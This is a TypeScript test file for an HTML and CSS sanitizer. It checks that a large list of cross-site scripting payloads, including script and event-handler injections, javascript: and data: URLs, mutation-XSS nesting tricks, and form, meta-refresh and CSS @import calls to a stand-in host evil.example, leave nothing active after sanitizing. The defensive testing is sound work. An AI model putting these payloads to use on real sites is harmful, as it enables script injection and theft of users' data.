import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse, type DefaultTreeAdapterTypes } from 'parse5';
import { describe, expect, it } from 'vitest';
import { safeCss } from './css.ts';
import { safePage } from './view.ts';

type Node = DefaultTreeAdapterTypes.ParentNode | DefaultTreeAdapterTypes.ChildNode;

const active =
  /^(?:script|iframe|frame|object|embed|applet|base|meta|link|form|input|button|svg|math|template|noscript|audio|video|portal)$/;
const reaching = ['href', 'src', 'srcset', 'ping', 'action', 'formaction', 'background', 'poster', 'data', 'xlink:href'];

/** What of a page could run or reach out, read as a browser reads it. */
function activeParts(html: string): string[] {
  const found: string[] = [];
  const waiting: Node[] = [parse(html, { scriptingEnabled: true })];
  for (let node = waiting.pop(); node !== undefined; node = waiting.pop()) {
    if ('tagName' in node) {
      if (active.test(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        const address = Array.from(value).filter((letter) => letter > ' ').join('').toLowerCase();
        if (/^on/i.test(name) || name === 'srcdoc' || name === 'ping') found.push(name);
        if (reaching.includes(name) && /^(?:javascript|vbscript|livescript|data:(?!image\/(?:png|jpe?g|gif|webp|avif|bmp|x-icon)))/.test(address)) found.push(`${name}=${value}`);
        if (name === 'src' && !address.startsWith('data:image/')) found.push(`src=${value}`);
        if (name === 'style' && /url\((?!["']?data:)|expression\(|javascript:/i.test(value)) found.push(`style=${value}`);
      }
      if (node.tagName === 'style' && node.childNodes.some((child) => 'value' in child && /@import|url\((?!["']?data:)/i.test(child.value))) {
        found.push('style that loads');
      }
    }
    if ('childNodes' in node) waiting.push(...node.childNodes);
  }
  return found;
}

const own = [
  '<script>steal()</script><p>words</p>',
  '<img src=x onerror=steal()>',
  '<body onload=steal()><p onclick="steal()">words</p>',
  '<a href="javascript:steal()">go</a><a href=" java\nscript:steal()">go</a><a href="&#x6a;avascript:steal()">go</a>',
  '<a href="vbscript:steal">go</a><a href="data:text/html,<script>steal()</script>">go</a>',
  '<iframe srcdoc="<script>steal()</script>"></iframe><object data=x></object><embed src=x>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel=stylesheet href=x>',
  '<form action="https://evil.example/"><input name=password><button formaction="javascript:steal()">send</button></form>',
  '<svg><script>steal()</script><animate attributeName=href values="javascript:steal()"/><foreignObject><iframe></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=steal()>">',
  '<select><style></select><img src=x onerror=steal()></style></select>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<template><img src=x onerror=steal()></template><plaintext><img src=x onerror=steal()>',
  '<style>@import "https://evil.example/a.css"; p { background: url(https://evil.example/p) }</style>',
  '<style>@im\\70ort "x"; p { background: \\75rl(https://evil.example/) }</style><p style="background:u\\rl(//evil.example/a)">x</p>',
  '<style></style/><img src=x onerror=steal()></style><style>p::after{content:"<img src=x onerror=steal()>"}</style>',
  '<img srcset="https://evil.example/a 2x" src="https://evil.example/b"><video poster=x></video><picture><source srcset=x></picture>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4="><img src="data:text/html;base64,AAAA">',
  '<a href="https://good.example/" ping="https://evil.example/" target=_blank download>go</a>',
  '<div style="width:expression(steal());behavior:url(x);-moz-binding:url(x)">words</div>',
  '<xmp><script>steal()</script></xmp><textarea><script>steal()</script></textarea><title><script>steal()</script></title>',
];

describe('a page made safe to show', () => {
  it.each(own)('has nothing active left of %s', (payload) => {
    for (const page of [payload, `<!doctype html><body><article>${payload}</article>`]) {
      const safe = safePage(page);
      expect(activeParts(safe)).toEqual([]);
      expect(activeParts(safePage(safe))).toEqual([]);
    }
  });

  it('keeps its words and its look', () => {
    const page =
      '<!doctype html><html lang="fa" dir="rtl"><head><title>Harbour</title><style>.lede{color:#123}</style></head><body class="news">' +
      '<section id="top"><figure><img src="data:image/png;base64,AAAA" alt="A ship" width="9"><figcaption>A ship</figcaption></figure>' +
      '<p class="lede" style="margin:0">بندر <a href="https://good.example/a?b=1#c">بسته</a> است</p>' +
      '<table border="1"><tbody><tr><td colspan="2" align="right">1</td></tr></tbody></table></section></body></html>';
    const safe = safePage(page);
    for (const kept of [
      '<!doctype html>', 'lang="fa"', 'dir="rtl"', '<title>Harbour</title>', '.lede{color:#123}', 'class="news"', 'id="top"', 'src="data:image/png;base64,AAAA"',
      'alt="A ship"', 'class="lede"', 'style="margin:0"', 'href="https://good.example/a?b=1#c"', 'بندر', 'colspan="2"', 'border="1"', 'align="right"',
    ]) {
      expect(safe).toContain(kept);
    }
  });

  it('keeps the words of elements that it drops', () => {
    expect(safePage('<form><p>In a form</p></form><custom-part>In a part</custom-part><noscript>Without script</noscript>')).toMatch(/In a form.*In a part/);
  });

  it('stands any nesting', () => {
    for (const open of ['<div>', '<b>', '<table><tr><td>', '<blockquote>', '<ul><li>']) {
      expect(safePage(open.repeat(100_000) + 'deep words')).toContain('deep words');
    }
  });

  const payloads = join(import.meta.dirname, '../../../../shared/corpus/xss/payloads.json');
  const isThere = existsSync(payloads);
  it.skipIf(!isThere)(`has nothing active left of any payload of ${payloads}${isThere ? '' : ' (NOT THERE)'}`, () => {
    for (const payload of JSON.parse(readFileSync(payloads, 'utf8')) as string[]) {
      expect({ payload, left: activeParts(safePage(payload)) }).toEqual({ payload, left: [] });
    }
  });
});

describe('a safe style sheet', () => {
  it.each([
    ['a{color:red}', 'a{color:red}'],
    ['a{background:url(data:image/png;base64,AA)}', 'a{background:url(data:image/png;base64,AA)}'],
    ['a::before{content:"\\f101"}', 'a::before{content:"\\f101"}'],
    ['@media (width <= 600px){a{b:c}}', '@media (width <= 600px){a{b:c}}'],
    ['a{background:url("//evil.example/x")}', 'a{background:none}'],
  ])('of %s is %s', (css, safe) => {
    expect(safeCss(css)).toBe(safe);
  });

  it('takes time in proportion to its length', () => {
    const started = performance.now();
    for (const piece of ['@import ', 'url(', '/*', '\\', 'expression ', '<!--']) safeCss(piece.repeat(100_000));
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
